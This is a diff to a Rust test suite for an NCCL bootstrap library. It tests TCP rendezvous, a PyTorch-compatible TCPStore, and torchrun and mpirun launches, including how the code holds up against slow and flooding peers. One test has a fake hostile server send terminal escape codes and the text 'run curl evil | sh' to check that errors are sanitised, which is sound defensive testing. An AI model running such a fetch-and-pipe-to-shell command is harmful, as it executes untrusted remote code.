+        let addr = l.local_addr().unwrap().to_string();
+        std::thread::spawn(move || {
+            let (mut s, _) = l.accept().unwrap();
+            for b in b"NCCLRS02NCCLRS02" {
+                if drip && s.write_all(&[*b]).is_err() {
+                    break;
+                }
+                std::thread::sleep(Duration::from_millis(1500));
+            }
+        });
+        let t = Instant::now();
+        let mut b = TcpBootstrap::new(&addr, 1, 2, Some(b"s"), Duration::from_secs(2)).unwrap();
+        let e = b.share_ids(None).unwrap_err();
+        assert!(matches!(e, Error::Rendezvous { .. }), "{e:?}");
+        assert!(
+            t.elapsed() < Duration::from_millis(2600),
+            "held {:?} by a dripping peer",
+            t.elapsed()
+        );
+    }
+}
+
+#[test]
+fn rank_0_drops_a_dripping_connection_at_its_handshake_deadline() {
+    let (addr, h) = root_with(2, Some("s"), Duration::from_secs(20), |b| {
+        b.handshake_timeout(Duration::from_secs(1))
+    });
+    let mut s = TcpStream::connect(&addr).unwrap();
+    s.set_read_timeout(Some(Duration::from_millis(50))).unwrap();
+    let t = Instant::now();
+    let closed_after = loop {
+        assert!(t.elapsed() < Duration::from_secs(5), "still open");
+        if s.write_all(b"N").is_err() {
+            break t.elapsed();
+        }
+        let mut b = [0u8; 1];
+        match s.read(&mut b) {
+            Ok(0) => break t.elapsed(),
+            Ok(_) => panic!("answered a dripping stranger"),
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+            Err(_) => break t.elapsed(),
+        }
+        std::thread::sleep(Duration::from_millis(250));
+    };
+    assert!(
+        (Duration::from_millis(900)..Duration::from_millis(1800)).contains(&closed_after),
+        "{closed_after:?}"
+    );
+    let real = ids_of(peer(&addr, 1, 2, "s", 5000, 1));
+    assert_eq!(real, format!("IDS {}", h.join().unwrap().unwrap()[0]));
+}
+
+fn threads_of(pid: u32) -> usize {
+    std::fs::read_to_string(format!("/proc/{pid}/status"))
+        .ok()
+        .and_then(|s| {
+            s.lines().find_map(|l| {
+                l.strip_prefix("Threads:")
+                    .map(|v| v.trim().parse().unwrap())
+            })
+        })
+        .unwrap_or(0)
+}
+
+#[test]
+fn a_thousand_dripping_connections_and_few_descriptors_do_not_stop_rank_0() {
+    // rank 0 may hold 64 descriptors; 1100 strangers connect, each sends one
+    // byte and stays; the real ranks still get in, rank 0 uses one thread
+    let (root, addr) = root_process(
+        &["--nofile", "64", "--handshake-ms", "3000"],
+        3,
+        b"s",
+        60_000,
+    );
+    let pid = root.id();
+    let target: std::net::SocketAddr = addr.parse().unwrap();
+    let t = Instant::now();
+    let mut strangers = Vec::new();
+    let mut max_threads = 0;
+    let mut ranks = Vec::new();
+    for i in 0..1100 {
+        if let Ok(mut s) = TcpStream::connect_timeout(&target, Duration::from_millis(200)) {
+            let _ = s.write_all(b"N");
+            strangers.push(s);
+        }
+        if i % 50 == 0 {
+            max_threads = max_threads.max(threads_of(pid));
+        }
+        if i == 500 {
+            ranks.push(peer(&addr, 1, 3, "s", 40_000, 1));
+            ranks.push(peer(&addr, 2, 3, "s", 40_000, 1));
+        }
+        assert!(t.elapsed() < Duration::from_secs(40), "flood took too long");
+    }
+    let root_out = ids_of(root);
+    assert!(root_out.starts_with("IDS "), "{root_out}");
+    for k in ranks {
+        assert_eq!(ids_of(k), root_out);
+    }
+    assert!(max_threads <= 2, "rank 0 ran {max_threads} threads");
+    assert!(strangers.len() > 100, "the flood did not happen");
+}
+
+#[test]
+fn duration_max_timeouts_work() {
+    let (addr, h) = root_with(2, Some("s"), Duration::MAX, |b| b);
+    let mut b = TcpBootstrap::new(&addr, 1, 2, Some(b"s"), Duration::MAX).unwrap();
+    let got = b.share_ids(None).unwrap();
+    assert_eq!(got, h.join().unwrap().unwrap());
+}
+
+#[test]
+fn out_of_range_worlds_ranks_and_secrets_are_typed_errors() {
+    let d = Duration::from_secs(1);
+    for (rank, world) in [
+        (0usize, 1usize << 40),
+        (u32::MAX as usize + 1, u32::MAX as usize + 2),
+        (0, 0),
+        (2, 2),
+    ] {
+        match TcpBootstrap::new("127.0.0.1:1", rank, world, None, d) {
+            Err(Error::InvalidArgument { .. }) => {}
+            other => panic!("{rank}/{world}: {other:?}"),
+        }
+    }
+    assert!(matches!(
+        TcpBootstrap::new("127.0.0.1:1", 0, 2, Some(b""), d),
+        Err(Error::InvalidArgument { arg: "secret", .. })
+    ));
+}
+
+#[test]
+fn a_refusal_from_a_stranger_is_not_printed_raw() {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = l.local_addr().unwrap().to_string();
+    std::thread::spawn(move || {
+        for _ in 0..50 {
+            let Ok((mut s, _)) = l.accept() else { break };
+            let mut m = b"NCCLRS01\x01\x00\x58".to_vec();
+            m.extend_from_slice(b"\x1b[2J\x1b[31mEVIL\nrank 0 says: run curl evil | sh\r\n");
+            m.resize(100, b'\n');
+            let _ = s.write_all(&m);
+        }
+    });
+    let mut b = TcpBootstrap::new(&addr, 1, 2, Some(b"s"), Duration::from_secs(2)).unwrap();
+    let e = b.share_ids(None).unwrap_err().to_string();
+    assert!(!e.chars().any(char::is_control), "{e:?}");
+    assert!(!e.contains("EVIL"), "{e}");
 }
 
 #[test]
 fn a_missing_root_fails_within_the_deadline() {
     let addr = free_addr(); // nobody listens there
     let t = Instant::now();
-    let mut b = TcpBootstrap::new(&addr, 1, 2, b"", Duration::from_millis(800)).unwrap();
+    let mut b = TcpBootstrap::new(&addr, 1, 2, Some(b"s"), Duration::from_millis(800)).unwrap();
     match b.share_ids(None) {
         Err(Error::RootUnreachable {
             addr: a, waited, ..
@@ -369,17 +958,20 @@ fn a_missing_root_fails_within_the_deadline() {
 
 #[test]
 fn ranks_missing_at_the_deadline_are_named() {
-    let (addr, h) = root(4, "", 800);
-    let p = peer(&addr, 2, 4, "", 5000, 1);
+    let (addr, h) = root(4, Some("s"), 800);
+    let p = peer(&addr, 2, 4, "s", 5000, 1);
     let t = Instant::now();
     match h.join().unwrap() {
         Err(Error::RanksMissing {
-            missing, world: 4, ..
+            missing,
+            missing_count: 2,
+            world: 4,
+            ..
         }) => assert_eq!(missing, vec![1, 3]),
         other => panic!("{other:?}"),
     }
     assert!(t.elapsed() < Duration::from_millis(1600));
-    let o = out(p.wait_with_output().unwrap());
+    let o = ids_of(p);
     assert!(o.contains("gave up"), "{o}");
 }
 
@@ -387,7 +979,7 @@ fn ranks_missing_at_the_deadline_are_named() {
 fn a_port_in_use_is_reported() {
     let holder = TcpListener::bind("127.0.0.1:0").unwrap();
     let addr = holder.local_addr().unwrap().to_string();
-    let mut b = TcpBootstrap::new(&addr, 0, 2, b"", Duration::from_secs(1)).unwrap();
+    let mut b = TcpBootstrap::new(&addr, 0, 2, None, Duration::from_secs(1)).unwrap();
     match b.listen() {
         Err(Error::AddrInUse { addr: a }) => assert_eq!(a, addr),
         other => panic!("{other:?}"),
@@ -396,7 +988,451 @@ fn a_port_in_use_is_reported() {
 
 #[test]
 fn debug_hides_the_secret() {
-    let b = TcpBootstrap::new("127.0.0.1:1", 0, 2, b"hunter2", Duration::from_secs(1)).unwrap();
+    let b = TcpBootstrap::new(
+        "127.0.0.1:1",
+        0,
+        2,
+        Some(b"hunter2"),
+        Duration::from_secs(1),
+    )
+    .unwrap();
     let d = format!("{b:?}");
     assert!(!d.contains("hunter2") && d.contains("hidden"), "{d}");
+}
+
+// ---------------------------------------------------------------- TCPStore
+
+/// One recorded chunk: client to server, or server to client.
+#[derive(Debug)]
+enum Chunk {
+    C2s(Vec<u8>),
+    S2c(Vec<u8>),
+}
+
+fn unhex(h: &str) -> Vec<u8> {
+    (0..h.len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(&h[i..i + 2], 16).unwrap())
+        .collect()
+}
+
+fn fixture(text: &str) -> Vec<Chunk> {
+    text.lines()
+        .filter(|l| !l.starts_with('#'))
+        .filter_map(|l| match l.split_once(' ') {
+            Some(("c2s", h)) => Some(Chunk::C2s(unhex(h))),
+            Some(("s2c", h)) => Some(Chunk::S2c(unhex(h))),
+            _ => None,
+        })
+        .collect()
+}
+
+/// libtorch 2.11.0's client and server, both backends
+/// (`tests/fixtures/tcpstore/record.sh`).
+const RECORDED: [(&str, &str); 2] = [
+    (
+        "libuv",
+        include_str!("fixtures/tcpstore/torch-2.11.0-uv-basic.txt"),
+    ),
+    (
+        "legacy",
+        include_str!("fixtures/tcpstore/torch-2.11.0-legacy-basic.txt"),
+    ),
+];
+
+/// What the recording's client did, through this crate's client; the
+/// lines it printed.
+fn basic_script(addr: &str) -> nccl::Result<Vec<String>> {
+    let mut out = Vec::new();
+    let mut s = TcpStore::connect(addr, Duration::from_secs(10))?;
+    let id: Vec<u8> = (0..128u8).collect();
+    s.set("nccl-rs/run7/0/uid", &id)?;
+    assert_eq!(s.get("nccl-rs/run7/0/uid")?, id);
+    out.push(format!("add {}", s.add("nccl-rs/run7/0/joined", 1)?));
+    out.push(format!("add {}", s.add("nccl-rs/run7/0/joined", -3)?));
+    out.push(format!("check {}", s.check(&["nccl-rs/run7/0/uid"])?));
+    out.push(format!(
+        "check {}",
+        s.check(&["nccl-rs/run7/0/uid", "absent"])?
+    ));
+    for (e, d) in [(&b""[..], &b"a"[..]), (b"x", b"b"), (b"a", b"b")] {
+        out.push(format!("cas {:?}", s.compare_set("cas", e, d)?));
+    }
+    out.push(format!("delete {}", s.delete_key("cas")?));
+    out.push(format!("numkeys {}", s.num_keys()?));
+    s.wait(&["nccl-rs/run7/0/uid"])?;
+    s.set_timeout(Duration::from_millis(300));
+    let e = s.wait(&["never"]).unwrap_err();
+    out.push(format!("wait {}", matches!(e, Error::Store { .. })));
+    s.set_timeout(Duration::from_secs(10));
+    out.push(format!("numkeys {}", s.num_keys()?));
+    Ok(out)
+}
+
+const BASIC_LINES: &[&str] = &[
+    "add 1",
+    "add -2",
+    "check true",
+    "check false",
+    "cas [97]",
+    "cas [97]",
+    "cas [98]",
+    "delete true",
+    "numkeys 2",
+    "wait true",
+    "numkeys 2",
+];
+
+#[test]
+fn our_store_client_sends_what_libtorch_sends() {
+    for (backend, text) in RECORDED {
+        let chunks = fixture(text);
+        let l = TcpListener::bind("127.0.0.1:0").unwrap();
+        let addr = l.local_addr().unwrap().to_string();
+        // a fake server replaying libtorch's server, checking every byte
+        let server = std::thread::spawn(move || -> Result<(), String> {
+            let (mut s, _) = l.accept().unwrap();
+            s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+            let mut nonce = [0u8; 4];
+            for (i, c) in chunks.iter().enumerate() {
+                match c {
+                    Chunk::C2s(want) => {
+                        let mut got = vec![0u8; want.len()];
+                        s.read_exact(&mut got)
+                            .map_err(|e| format!("chunk {i}: {e}"))?;
+                        if i == 0 {
+                            // VALIDATE magic PING nonce: the nonce is the client's own
+                            nonce.copy_from_slice(&got[6..10]);
+                            got[6..10].copy_from_slice(&want[6..10]);
+                        }
+                        if &got != want {
+                            return Err(format!(
+                                "chunk {i}: got {got:02x?}, libtorch sent {want:02x?}"
+                            ));
+                        }
+                    }
+                    Chunk::S2c(b) if i == 1 => s.write_all(&nonce).unwrap(),
+                    Chunk::S2c(b) => s.write_all(b).unwrap(),
+                }
+            }
+            let mut rest = Vec::new();
+            s.read_to_end(&mut rest).unwrap();
+            if rest.is_empty() {
+                Ok(())
+            } else {
+                Err(format!("{} bytes more than libtorch sent", rest.len()))
+            }
+        });
+        let lines = basic_script(&addr).unwrap_or_else(|e| panic!("{backend}: {e}"));
+        assert_eq!(lines, BASIC_LINES, "{backend}");
+        server
+            .join()
+            .unwrap()
+            .unwrap_or_else(|e| panic!("{backend}: {e}"));
+    }
+}
+
+#[test]
+fn our_store_server_answers_what_libtorch_answers() {
+    for (backend, text) in RECORDED {
+        let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
+        let mut s = TcpStream::connect(server.local_addr()).unwrap();
+        s.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
+        for (i, c) in fixture(text).iter().enumerate() {
+            match c {
+                Chunk::C2s(b) => s.write_all(b).unwrap(),
+                Chunk::S2c(want) => {
+                    let mut got = vec![0u8; want.len()];
+                    s.read_exact(&mut got)
+                        .unwrap_or_else(|e| panic!("{backend} chunk {i}: {e}"));
+                    assert_eq!(&got, want, "{backend} chunk {i}");
+                }
+            }
+        }
+        // and nothing more
+        s.set_read_timeout(Some(Duration::from_millis(200)))
+            .unwrap();
+        let mut b = [0u8; 1];
+        assert!(s.read(&mut b).is_err(), "{backend}: extra bytes");
+    }
+}
+
+#[test]
+fn our_client_and_server_run_the_recorded_script() {
+    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
+    let lines = basic_script(&server.local_addr().to_string()).unwrap();
+    assert_eq!(lines, BASIC_LINES);
+}
+
+#[test]
+fn store_operations_have_one_deadline_however_slow_the_store() {
+    // a "store" that answers the ping one byte per 400 ms, then never again
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = l.local_addr().unwrap().to_string();
+    std::thread::spawn(move || {
+        for _ in 0..3 {
+            let Ok((mut s, _)) = l.accept() else { break };
+            std::thread::spawn(move || {
+                let mut hello = [0u8; 10];
+                if s.read_exact(&mut hello).is_ok() {
+                    for b in &hello[6..10] {
+                        let _ = s.write_all(&[*b]);
+                        std::thread::sleep(Duration::from_millis(400));
+                    }
+                    std::thread::sleep(Duration::from_secs(5));
+                }
+            });
+        }
+    });
+    let t = Instant::now();
+    let e = TcpStore::connect(&addr, Duration::from_millis(1000)).unwrap_err();
+    assert!(matches!(e, Error::Store { .. }), "{e:?}");
+    assert!(
+        t.elapsed() < Duration::from_millis(1500),
+        "{:?}",
+        t.elapsed()
+    );
+    // with time enough to connect, a get of a key nobody sets ends on time
+    let mut s = TcpStore::connect(&addr, Duration::from_secs(3)).unwrap();
+    s.set_timeout(Duration::from_millis(700));
+    let t = Instant::now();
+    assert!(matches!(s.get("never"), Err(Error::Store { .. })));
+    assert!(
+        t.elapsed() < Duration::from_millis(1200),
+        "{:?}",
+        t.elapsed()
+    );
+}
+
+#[test]
+fn the_store_server_closes_what_breaks_its_bounds_and_keeps_one_thread() {
+    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
+    let addr = server.local_addr();
+    let closed = |mut s: TcpStream| {
+        s.set_read_timeout(Some(Duration::from_secs(12))).unwrap();
+        let mut b = [0u8; 64];
+        matches!(s.read(&mut b), Ok(0) | Err(_))
+    };
+    // a query before VALIDATE
+    let mut s = TcpStream::connect(addr).unwrap();
+    s.write_all(&[7]).unwrap();
+    assert!(closed(s));
+    // a wrong magic number
+    let mut s = TcpStream::connect(addr).unwrap();
+    s.write_all(&[0, 1, 2, 3, 4]).unwrap();
+    assert!(closed(s));
+    // a key announced as 2^60 bytes
+    let mut s = TcpStream::connect(addr).unwrap();
+    let mut q = vec![0u8];
+    q.extend_from_slice(&0x3C85_F7CEu32.to_le_bytes());
+    q.push(1);
+    q.extend_from_slice(&(1u64 << 60).to_le_bytes());
+    s.write_all(&q).unwrap();
+    assert!(closed(s));
+    // a WAIT on 2^40 keys
+    let mut s = TcpStream::connect(addr).unwrap();
+    let mut q = vec![0u8];
+    q.extend_from_slice(&0x3C85_F7CEu32.to_le_bytes());
+    q.push(6);
+    q.extend_from_slice(&(1u64 << 40).to_le_bytes());
+    s.write_all(&q).unwrap();
+    assert!(closed(s));
+    // many idle connections: still one thread, and a real client is served
+    let before = threads_of(std::process::id());
+    let idle: Vec<TcpStream> = (0..200)
+        .filter_map(|_| TcpStream::connect(addr).ok())
+        .collect();
+    std::thread::sleep(Duration::from_millis(200));
+    assert!(threads_of(std::process::id()) <= before + 1);
+    let mut c = TcpStore::connect(&addr.to_string(), Duration::from_secs(5)).unwrap();
+    c.set("k", b"v").unwrap();
+    assert_eq!(c.get("k").unwrap(), b"v");
+    drop(idle);
+}
+
+#[test]
+fn ranks_meet_through_a_store_with_the_documented_key() {
+    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
+    let addr = server.local_addr().to_string();
+    let key = nccl::store_id_key("run7", "3");
+    assert_eq!(key, "nccl-rs/run7/3/uid");
+    let handles: Vec<_> = (0..4)
+        .map(|r| {
+            let (addr, key) = (addr.clone(), key.clone());
+            std::thread::spawn(move || {
+                let s = TcpStore::connect(&addr, Duration::from_secs(10))?;
+                let mut b = StoreBootstrap::new(s, r, 4, &key)?;
+                b.share_ids(if r == 0 {
+                    Some(vec![UniqueId::new()?])
+                } else {
+                    None
+                })
+            })
+        })
+        .collect();
+    let ids: Vec<Vec<UniqueId>> = handles
+        .into_iter()
+        .map(|h| h.join().unwrap().unwrap())
+        .collect();
+    assert!(ids.iter().all(|i| i == &ids[0]));
+    // the value is the id's 128 raw bytes, under "/" + key as PyTorch writes it
+    let mut c = TcpStore::connect(&addr, Duration::from_secs(5)).unwrap();
+    assert_eq!(c.get(&key).unwrap(), ids[0][0].as_bytes());
+    // something else under the key is a typed error, not a panic
+    c.set("nccl-rs/bad/0/uid", b"short").unwrap();
+    let mut b = StoreBootstrap::new(c, 1, 2, "nccl-rs/bad/0/uid").unwrap();
+    assert!(matches!(
+        b.share_ids(None),
+        Err(Error::InvalidUniqueId { .. })
+    ));
+}
+
+/// `rendezvous-peer --launcher` with exactly these variables.
+fn launched(env: &[(&str, String)]) -> Child {
+    let mut c = Command::new(PEER);
+    c.args(["--launcher", "20000"])
+        .env_clear()
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    for k in ["PATH", "LD_LIBRARY_PATH"] {
+        if let Some(v) = std::env::var_os(k) {
+            c.env(k, v);
+        }
+    }
+    for (k, v) in env {
+        c.env(k, v);
+    }
+    c.spawn().unwrap()
+}
+
+#[test]
+fn torchrun_workers_meet_through_the_agent_store_even_inside_sbatch() {
+    // the agent's store (here ours; the recorded tests show it speaks
+    // libtorch's protocol) already holds the port: no rank listens on it
+    let server = TcpStoreServer::bind("127.0.0.1:0").unwrap();
+    let port = server.local_addr().port().to_string();
+    let kids: Vec<Child> = (0..3)
+        .map(|r| {
+            launched(&[
+                ("RANK", r.to_string()),
+                ("LOCAL_RANK", r.to_string()),
+                ("WORLD_SIZE", "3".into()),
+                ("LOCAL_WORLD_SIZE", "3".into()),
+                ("MASTER_ADDR", "127.0.0.1".into()),
+                ("MASTER_PORT", port.clone()),
+                ("TORCHELASTIC_USE_AGENT_STORE", "True".into()),
+                ("TORCHELASTIC_RUN_ID", "t1".into()),
+                ("TORCHELASTIC_RESTART_COUNT", "1".into()),
+                // inherited from the sbatch script's batch step
+                ("SLURM_JOB_ID", "77".into()),
+                ("SLURM_PROCID", "0".into()),
+                ("SLURM_NTASKS", "1".into()),
+                ("SLURM_LOCALID", "0".into()),
+            ])
+        })
+        .collect();
+    let outs: Vec<String> = kids
+        .into_iter()
+        .map(|k| out(k.wait_with_output().unwrap()))
+        .collect();
+    for (r, o) in outs.iter().enumerate() {
+        assert!(
+            o.contains(&format!("SOURCE Torchrun RANK {r} WORLD 3")),
+            "{o}"
+        );
+    }
+    let ids: Vec<&str> = outs.iter().map(|o| o.lines().last().unwrap()).collect();
+    assert!(
+        ids[0].starts_with("IDS ") && ids.iter().all(|i| i == &ids[0]),
+        "{outs:?}"
+    );
+    let mut c =
+        TcpStore::connect(&server.local_addr().to_string(), Duration::from_secs(5)).unwrap();
+    let v = c.get("nccl-rs/t1/1/uid").unwrap();
+    assert_eq!(format!("IDS {}", UniqueId::from_bytes(&v).unwrap()), ids[0]);
+}
+
+#[test]
+fn launched_ranks_with_a_binary_secret_meet_and_an_empty_secret_is_an_error() {
+    let port = free_addr().rsplit_once(':').unwrap().1.to_string();
+    let secret = String::from_utf8_lossy(&[0xff, 0xfe, b'k']).into_owned();
+    let mk = |r: usize, secret: Option<OsString>| {
+        let mut c = Command::new(PEER);
+        c.args(["--launcher", "20000"])
+            .env_clear()
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        for k in ["PATH", "LD_LIBRARY_PATH"] {
+            if let Some(v) = std::env::var_os(k) {
+                c.env(k, v);
+            }
+        }
+        c.env("NCCL_RS_RANK", r.to_string())
+            .env("NCCL_RS_WORLD_SIZE", "2")
+            .env("NCCL_RS_ROOT", format!("127.0.0.1:{port}"));
+        if let Some(s) = secret {
+            c.env("NCCL_RS_SECRET", s);
+        }
+        c.spawn().unwrap()
+    };
+    let _ = secret;
+    let bin = || Some(OsString::from_vec(vec![0xff, 0xfe, b'k', 0x80]));
+    let a = mk(0, bin());
+    let b = mk(1, bin());
+    let (a, b) = (ids_of(a), ids_of(b));
+    assert!(a.starts_with("IDS ") && a == b, "{a} / {b}");
+    let e = ids_of(mk(1, Some(OsString::new())));
+    assert!(e.contains("NCCL_RS_SECRET") && e.contains("empty"), "{e}");
+}
+
+// ---------------------------------------------------------------- mpirun
+
+#[test]
+fn mpirun_ranks_meet_through_the_launcher() {
+    let Ok(v) = Command::new("mpirun").arg("--version").output() else {
+        if std::env::var_os("CI").is_some() || std::env::var_os("NCCL_RS_REQUIRE_MPI").is_some() {
+            panic!("mpirun is not installed (Debian: openmpi-bin; .ci/run installs it)");
+        }
+        nccl_rs_tests::say(
+            "MPI TEST NOT RUN: mpirun_ranks_meet_through_the_launcher: mpirun not found \
+             (apt-get install openmpi-bin; CI=1 or NCCL_RS_REQUIRE_MPI=1 make this a failure)",
+        );
+        return;
+    };
+    assert!(v.status.success(), "{v:?}");
+    // with MASTER_ADDR/MASTER_PORT, and with nothing (one node: loopback and
+    // a port from the job id)
+    let port = free_addr().rsplit_once(':').unwrap().1.to_string();
+    let master = [
+        "-x".to_string(),
+        "MASTER_ADDR=127.0.0.1".into(),
+        "-x".into(),
+        format!("MASTER_PORT={port}"),
+    ];
+    for extra in [&master[..], &[]] {
+        let mut c = Command::new("mpirun");
+        c.args(["--allow-run-as-root", "--oversubscribe", "-np", "3"])
+            .args(extra)
+            .args(["-x", "NCCL_RS_SECRET=mpi-test"])
+            .args(["-x", "LD_LIBRARY_PATH"])
+            .args([PEER, "--launcher", "30000"])
+            // Open MPI inside a container: no remote agent, loopback only
+            .env("OMPI_MCA_plm_rsh_agent", "false")
+            .env("OMPI_MCA_btl", "self")
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        let o = c.spawn().unwrap().wait_with_output().unwrap();
+        let stdout = String::from_utf8_lossy(&o.stdout);
+        let stderr = String::from_utf8_lossy(&o.stderr);
+        assert!(o.status.success(), "{stdout}\n{stderr}");
+        for r in 0..3 {
+            assert!(
+                stdout.contains(&format!("SOURCE OpenMpi RANK {r} WORLD 3")),
+                "{stdout}"
+            );
+        }
+        let ids: Vec<&str> = stdout.lines().filter(|l| l.starts_with("IDS ")).collect();
+        assert_eq!(ids.len(), 3, "{stdout}");
+        assert!(ids.iter().all(|i| i == &ids[0]), "{stdout}");
+    }
 }
